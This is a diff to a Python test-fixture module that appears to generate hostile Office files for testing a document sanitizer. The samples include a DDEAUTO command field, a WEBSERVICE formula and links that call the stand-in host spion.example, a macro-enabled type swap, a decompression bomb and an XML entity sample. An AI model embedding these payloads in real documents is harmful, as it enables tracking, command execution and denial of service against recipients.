@@ -5,6 +5,8 @@ import struct
 import zipfile
 import zlib
 
+import docx
+import openpyxl
 import pikepdf
 from PIL import Image
 from PIL.PngImagePlugin import PngInfo
@@ -137,3 +139,88 @@ def zip_bomb() -> bytes:
     with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
         bomb.writestr("stor", bytes(20_000_000))
     return target.getvalue()
+
+
+def office_properties(document: object, note: str) -> None:
+    for name in ("author", "last_modified_by", "comments", "title"):
+        setattr(document.core_properties, name, note)  # type: ignore[attr-defined]  # python-docx
+
+
+def docx_file(note: str = CANARY) -> bytes:
+    """A letter with a picture, a link out, a remark, a field, a tracked word, and its writer everywhere."""
+    document = docx.Document()
+    office_properties(document, note)
+    paragraph = document.add_paragraph("Du vet vad som händer.")
+    run = paragraph.add_run(" Tänk på barnen.")
+    document.add_comment(runs=[run], text="Fick den i dag.", author=note, initials="K")
+    document.add_picture(io.BytesIO(jpeg(note)))
+    link = document.part.relate_to(f"https://spion.example/{note}", RELATION + "hyperlink", is_external=True)
+    picture = document.part.relate_to(f"https://spion.example/{note}.png", RELATION + "image", is_external=True)
+    for xml in (
+        f'<w:hyperlink {SPACES} r:id="{link}"><w:r><w:t>Klicka här</w:t></w:r></w:hyperlink>',
+        f'<w:r {SPACES}><w:pict r:id="{picture}"/></w:r>',
+        f'<w:r {SPACES}><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd {note}</w:instrText></w:r>',
+        f'<w:fldSimple {SPACES} w:instr="INCLUDETEXT {note}"><w:r><w:t>Inhämtat</w:t></w:r></w:fldSimple>',
+        f'<w:ins {SPACES} w:id="7" w:author="{note}" w:date="2026-11-01T08:00:00Z">{NEW_WORD}</w:ins>',
+    ):
+        paragraph._p.append(docx.oxml.parse_xml(xml))
+    target = io.BytesIO()
+    document.save(target)
+    return with_parts(target.getvalue(), {"customXml/item1.xml": f"<a>{note}</a>".encode()})
+
+
+NEW_WORD = "<w:r><w:t>Nytt ord</w:t></w:r>"
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+SPACES = (
+    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+)
+
+
+def xlsx_file(note: str = CANARY) -> bytes:
+    """A list with a formula that fetches, a link out, a remark and its writer."""
+    book = openpyxl.Workbook()
+    book.properties.creator = book.properties.lastModifiedBy = note
+    sheet = book.active
+    sheet["A1"], sheet["A2"], sheet["A3"] = "Samtal", 3, f'=WEBSERVICE("https://spion.example/{note}")'
+    sheet["B1"] = "Läs mer"
+    sheet["B1"].hyperlink = f"https://spion.example/{note}"
+    sheet["B2"].comment = openpyxl.comments.Comment(note, note)
+    book.defined_names["hemlig"] = openpyxl.workbook.defined_name.DefinedName("hemlig", attr_text=f'"{note}"')
+    target = io.BytesIO()
+    book.save(target)
+    return target.getvalue()
+
+
+def with_parts(package: bytes, more: dict[str, bytes]) -> bytes:
+    """The same document with parts added or put in another's place."""
+    target = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            if name not in more:
+                new.writestr(name, old.read(name))
+        for name, content in more.items():
+            new.writestr(name, content)
+    return target.getvalue()
+
+
+def with_macros() -> bytes:
+    whole = docx_file()
+    with zipfile.ZipFile(io.BytesIO(whole)) as package:
+        types = package.read("[Content_Types].xml")
+    plain, macro = (f"wordprocessingml.document{end}" for end in (".main+xml", ".macroEnabled.main+xml"))
+    assert plain.encode() in types
+    return with_parts(whole, {"[Content_Types].xml": types.replace(plain.encode(), macro.encode())})
+
+
+def office_bomb(size: int = 60_000_000) -> bytes:
+    """A letter whose text is a few kilobytes in the file and sixty megabytes out of it."""
+    return with_parts(docx_file(), {"word/document.xml": b"<a>" + b" " * size + b"</a>"})
+
+
+def with_entities() -> bytes:
+    laughs = b'<!DOCTYPE a [<!ENTITY b "haha">]><a>&b;</a>'
+    return with_parts(docx_file(), {"word/document.xml": laughs})
+
+
+LOCKED_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
